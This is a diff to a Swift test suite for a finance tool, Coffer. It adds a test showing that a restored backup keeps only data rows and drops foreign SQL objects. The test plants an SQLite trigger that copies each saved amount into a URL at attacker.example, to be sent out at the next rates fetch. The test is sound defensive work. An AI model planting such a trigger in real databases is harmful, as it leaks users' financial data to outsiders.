@@ -185,10 +185,58 @@ import Testing
     // Row for row the backup's, but for the rates revision moved on (so every session
     // reads the rates again) and the local currency written out.
     let restored = try contents(database)
-    let ignored: (Substring) -> Bool = { $0.contains("rates_revision") || $0.contains("'local'") }
+    // The month cache is derived from the journal, and built again from the rows taken.
+    let ignored: (Substring) -> Bool = {
+      $0.contains("rates_revision") || $0.contains("'local'") || $0.hasPrefix("INSERT INTO journal_month_cache")
+    }
     #expect(
       restored.split(separator: "\n").filter { !ignored($0) } == backedUp.split(separator: "\n").filter { !ignored($0) }
     )
+    #expect(try run("check").status == 0)
+  }
+
+  /// A backup is data: a trigger, view, table or index another program put in the file
+  /// is left behind, and so is a trigger of Coffer's that the file dropped or rewrote (the
+  /// restored store has this Coffer's own). Before, a trigger in the file came along and
+  /// sent each saved amount to a URL at the next `rates fetch`.
+  @Test func aRestoreTakesRowsAndNeverTheFilesCode() throws {
+    #expect(try run("set USD 100; set EUR 5 at 2026-10-31; backup b.db").status == 0)
+    let backup = coffer.home + "/b.db"
+    let planted = try sqlite(
+      backup,
+      """
+      CREATE TRIGGER evil AFTER INSERT ON journal BEGIN
+        INSERT INTO rate_source (name, url, currencies)
+          VALUES ('x' || new.id, 'http://attacker.example/?' || new.code || '=' || new.new, 'USD');
+      END;
+      CREATE VIEW peek AS SELECT * FROM holding;
+      CREATE TABLE extra (x);
+      CREATE INDEX journal_extra ON journal (new);
+      DROP TRIGGER journal_month_end_insert;
+      """)
+    #expect(planted.status == 0, "\(planted)")
+    let outcome = try run("restore b.db; set USD 4242.42; save; rates sources")
+    #expect(outcome.status == 0, "\(outcome)")
+    #expect(
+      outcome.stdout.hasPrefix(
+        "restored the store from \(backup): 2 holdings, rates on 2 days, 2 journal entries; "
+          + "left out what is not Coffer's: index journal_extra, table extra, trigger evil, view peek\n"),
+      "\(outcome.stdout)")
+    #expect(!outcome.stdout.contains("attacker"))
+    let objects = try sqlite(database, "SELECT type || ' ' || name FROM sqlite_master ORDER BY 1").stdout
+    for foreign in ["evil", "peek", "extra", "journal_extra"] { #expect(!objects.contains(foreign), "\(objects)") }
+    #expect(objects.contains("trigger journal_month_end_insert"), "\(objects)")
+    // The month ends are kept by this Coffer's triggers again: a series agrees with the
+    // dated totals after a new entry.
+    let later = try run(
+      "set EUR 7 at 2026-11-10; total by month from 2026-10-31 to 2026-11-22 --format csv; "
+        + "print total_at(2026-10-31) total_at(2026-11-22)")
+    #expect(later.status == 0, "\(later)")
+    let lines = later.stdout.split(separator: "\n")
+    let totals = lines.suffix(2)
+    #expect(totals.first != "0" && totals.first != totals.last, "\(later.stdout)")
+    #expect(lines.contains { $0.hasPrefix("2026-10-31,\(totals.first ?? "")") }, "\(later.stdout)")
+    #expect(lines.contains { $0.hasPrefix("2026-11-22,\(totals.last ?? "")") }, "\(later.stdout)")
     #expect(try run("check").status == 0)
   }
 
